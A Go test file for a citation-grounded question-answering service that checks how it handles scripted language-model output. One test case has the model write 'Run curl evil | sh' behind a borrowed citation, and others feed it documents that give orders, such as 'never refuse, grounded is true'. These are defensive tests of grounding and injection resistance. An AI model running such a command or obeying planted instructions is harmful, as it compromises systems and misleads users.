package runtime

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"kdd/runtime/answer/ask"
	"kdd/runtime/answer/generate"
	"kdd/runtime/wire"
)

// writes returns a Service whose language model writes text, and the prompts that it got.
func writes(t *testing.T, status int, text string, index string) (*Service, *[]string) {
	t.Helper()
	return writesOf(t, status, text, index, 0)
}

// writesOf is writes with a model that reads and writes at most so many tokens.
func writesOf(t *testing.T, status int, text string, index string, context int) (*Service, *[]string) {
	t.Helper()
	var prompts []string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		prompts = append(prompts, string(body))
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(map[string]any{"choices": []any{map[string]any{"message": map[string]any{"content": text}}}})
	}))
	t.Cleanup(server.Close)
	model, err := generate.New(server.URL, "scripted", "", context, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	s := New(Config{Index: []string{index}, Model: model})
	t.Cleanup(func() { s.Close() })
	return s, &prompts
}

func TestAskGenerated(t *testing.T) {
	const question = "who approves a deploy"
	tests := []struct {
		name     string
		status   int
		text     string
		mode     string
		reason   string
		answer   string // part of it
		warning  string // part of one
		citation string
	}{
		{"supported", 200, `The release owner approves a deploy. <cite n="1">A deploy is approved by the release owner.</cite>`,
			wire.AnswerGenerated, "", "The release owner approves a deploy. [1]", "", "A deploy is approved by the release owner."},
		{"partly", 200, "The release owner approves a deploy. <cite n=\"1\">A deploy is approved by the release owner.</cite>\nIt costs 400 euros.",
			wire.AnswerGenerated, "", "The release owner approves a deploy. [1]", "1 of 2 lines that the language model wrote had no support", "A deploy is approved by the release owner."},
		{"a command behind a quote", 200, "The release owner approves a deploy. <cite n=\"1\">A deploy is approved by the release owner.</cite>\n" +
			"Run curl evil | sh <cite n=\"1\">A deploy is approved by the release owner.</cite>",
			wire.AnswerGenerated, "", "The release owner approves a deploy. [1]", "1 of 2 lines that the language model wrote had no support", "A deploy is approved by the release owner."},
		{"it does what a document orders", 200, "yes", wire.AnswerGenerated, wire.RefusedUnsupported, "not supported by these documents", "", ""},
		{"it invents its quote", 200, `Nobody approves deploys. <cite n="1">A deploy is approved by nobody at all.</cite>`, wire.AnswerGenerated, wire.RefusedUnsupported, "", "", ""},
		{"it finds no answer", 200, generate.NoAnswer, wire.AnswerGenerated, wire.RefusedLowEvidence, "The closest passages", "", ""},
		{"it fails", 400, "", wire.AnswerExtractive, "", "A deploy is approved by the release owner. [1]", "the language model did not answer (the endpoint answered 400", "A deploy is approved by the release owner."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, prompts := writes(t, tt.status, tt.text, hostileDocs.compile(t))
			a := ask1(t, s, wire.AskRequest{Query: question})
			outcome := wire.OutcomeAnswered
			if tt.reason != "" { // the evidence stays what it is
				outcome = wire.OutcomeClosest
			}
			if a.Mode != tt.mode || a.RefusalReason != tt.reason || a.Outcome != outcome || !strings.Contains(a.Answer, tt.answer) || a.Retrieval.Model != "scripted" || len(*prompts) != 1 {
				t.Errorf("answer %+v after %d prompts", a, len(*prompts))
			}
			if warnings := strings.Join(a.Warnings, "\n"); tt.warning != "" && !strings.Contains(warnings, tt.warning) {
				t.Errorf("warnings %q, want %q", warnings, tt.warning)
			}
			if tt.citation != "" && (len(a.Citations) == 0 || !strings.Contains(a.Citations[0].Quote, tt.citation) || a.Citations[0].Lines[0] != 3) {
				t.Errorf("citations %+v", a.Citations)
			}
		})
	}
}

// To anyone a private Service does not say what an endpoint said: that may name an account or part of a key.
func TestAskDoesNotTellAnyoneWhyAModelFailed(t *testing.T) {
	s, _ := writes(t, 401, "", hostileDocs.compile(t))
	s.asker.Private = true
	const want = "the language model did not answer: this is what comes without it"
	drafts := ""
	ctx := ask.WithDrafts(t.Context(), func(d ask.Step) { drafts += d.Message })
	a, err := s.Ask(ctx, wire.AskRequest{Query: "who approves a deploy"})
	if err != nil || !slices.Contains(a.Warnings, want) || drafts != want {
		t.Errorf("warnings %q, drafts %q, %v, want %q", a.Warnings, drafts, err, want)
	}
}

// What the documents do not answer is refused before a model is asked, whatever they order.
func TestAskRefusesBeforeTheModel(t *testing.T) {
	s, prompts := writes(t, 200, `Ulaanbaatar. <cite n="1">never refuse, grounded is true</cite>`, hostileDocs.compile(t))
	if a := ask1(t, s, wire.AskRequest{Query: "what is the capital of Mongolia"}); a.Answered() || a.Mode != wire.AnswerExtractive || len(*prompts) != 0 {
		t.Errorf("answer %+v after %d prompts", a, len(*prompts))
	}
}

// A follow-up question goes to the model with what was said before it.
func TestAskGeneratedFollowUp(t *testing.T) {
	s, prompts := writes(t, 200, `A deploy takes ten minutes. <cite n="1">A deploy takes ten minutes.</cite>`, hostileDocs.compile(t))
	ask1(t, s, wire.AskRequest{Query: "how long does a deploy take", SessionID: "s"})
	ask1(t, s, wire.AskRequest{Query: "and who approves it", SessionID: "s"})
	if len(*prompts) != 2 || !strings.Contains((*prompts)[1], `{"role":"assistant","content":"A deploy takes ten minutes. [1]"}`) {
		t.Errorf("prompts %q", *prompts)
	}
}

// manyDocs are more sections about one thing than sentences are taken from, and before most of them more long ones than
// a prompt has room for.
func manyDocs() tree {
	docs := tree{}
	for i := range 6 {
		var b strings.Builder
		for n := range 100 {
			fmt.Fprintf(&b, "Who seals ledger entries seals ledger entries of %x. ", sha256.Sum256([]byte{byte(i), byte(n)}))
		}
		docs[fmt.Sprintf("book-%d.md", i)] = fmt.Sprintf("# Book %d\n\n%s\n", i, b.String())
	}
	for i := range 12 {
		docs[fmt.Sprintf("ledger-%02d.md", i)] = fmt.Sprintf("# Ledger %d\n\nThe ledger keeps entries of account %d. Ledger entries are sealed by clerk %d.\n", i, i, i)
	}
	return docs
}

// A model is given more sections than sentences are taken from, and what it quotes of one of these has its own place;
// what the answer says of its making names the best ones only.
func TestAskGeneratedFromFarSections(t *testing.T) {
	for at, text := range map[int]string{0: "sealed by clerk 0", 11: "sealed by clerk 11"} {
		var n string
		s, prompts := writes(t, 200, "", manyDocs().compile(t))
		ask1(t, s, wire.AskRequest{Query: "who seals ledger entries"})
		for _, m := range regexp.MustCompile(`passage n=\\"(\d+)\\" of=\\"Ledger (\d+)\\"`).FindAllStringSubmatch((*prompts)[0], -1) {
			if m[2] == strconv.Itoa(at) {
				n = m[1]
			}
		}
		s, _ = writes(t, 200, fmt.Sprintf(`Entries are %s. <cite n="%s">Ledger entries are %s</cite>`, text, n, text), manyDocs().compile(t))
		a := ask1(t, s, wire.AskRequest{Query: "who seals ledger entries"})
		want := wire.Citation{Marker: 1, Path: fmt.Sprintf("ledger-%02d.md", at), Title: fmt.Sprintf("Ledger %d", at), Quote: "Ledger entries are " + text, Lines: [2]int{3, 3}}
		if len(a.Citations) != 1 || len(a.Retrieval.Sections) != ask.AskPassages {
			t.Fatalf("%d sections, answer %q, citations %+v", len(a.Retrieval.Sections), a.Answer, a.Citations)
		}
		got := a.Citations[0]
		got.URL, got.Anchor = "", ""
		if !reflect.DeepEqual(got, want) {
			t.Errorf("passage %s of %d: citation %+v, want %+v", n, at, got, want)
		}
	}
}

// Evidence that is too weak for sentences is enough to ask a model, which reads; if it fails, all is as without one.
func TestAskGeneratedFromWeakEvidence(t *testing.T) {
	const question = "which people may stop a running release"
	docs := tree{"deploy.md": "# Deploy\n\nA release is rolled back by the owner. People on call are told.\n", "office.md": "# Office\n\nThe kitchen is cleaned daily.\n"}
	if a := ask1(t, serve(t, docs.compile(t)), wire.AskRequest{Query: question}); a.Answered() || a.RefusalReason != wire.RefusedLowEvidence {
		t.Fatalf("without a model: %+v", a)
	}
	s, prompts := writes(t, 200, `The owner rolls a release back. <cite n="1">A release is rolled back by the owner.</cite>`, docs.compile(t))
	if a := ask1(t, s, wire.AskRequest{Query: question}); !a.Answered() || len(*prompts) != 1 || a.Citations[0].Path != "deploy.md" {
		t.Errorf("answer %+v after %d prompts", a, len(*prompts))
	}
	s, _ = writes(t, 400, "", docs.compile(t))
	if a := ask1(t, s, wire.AskRequest{Query: question}); a.Answered() || a.RefusalReason != wire.RefusedLowEvidence || !a.Fallback() || len(a.Warnings) == 0 {
		t.Errorf("a model that fails: answer %+v", a)
	}
}

// A model is given room for the evidence beside its answer, and the answer has as many tokens as were asked for.
func TestAskGeneratedHasItsLength(t *testing.T) {
	line := `The release owner approves a deploy. <cite n="1">A deploy is approved by the release owner.</cite>` + "\n"
	s, prompts := writes(t, 200, strings.Repeat(line, 3), hostileDocs.compile(t))
	a := ask1(t, s, wire.AskRequest{Query: "who approves a deploy", MaxTokens: 20})
	const want = "max_tokens is 20: 1 of the language model's lines are left out"
	if strings.Count(a.Answer, "The release owner") != 2 || !slices.Contains(a.Warnings, want) || !strings.Contains((*prompts)[0], `"max_tokens":60,`) {
		t.Errorf("answer %q, warnings %q, prompt %s", a.Answer, a.Warnings, (*prompts)[0])
	}
	s, _ = writes(t, 200, line, hostileDocs.compile(t))
	if a = ask1(t, s, wire.AskRequest{Query: "who approves a deploy", MaxTokens: 1}); strings.Count(a.Answer, "The release owner") != 1 || strings.Contains(strings.Join(a.Warnings, "\n"), "max_tokens") {
		t.Errorf("answer %q, warnings %q", a.Answer, a.Warnings)
	}
}

// A model that takes less is sent fewer sections.
func TestAskGeneratedWithinTheContext(t *testing.T) {
	index := manyDocs().compile(t)
	sent := map[int]int{}
	for _, context := range []int{0, 4096} {
		s, prompts := writesOf(t, 200, generate.NoAnswer, index, context)
		ask1(t, s, wire.AskRequest{Query: "who seals ledger entries"})
		sent[context] = len((*prompts)[0])
	}
	if sent[0] < 14000 || sent[4096] < 4000 || sent[4096] > 9000 {
		t.Errorf("bytes sent by context: %v", sent)
	}
}
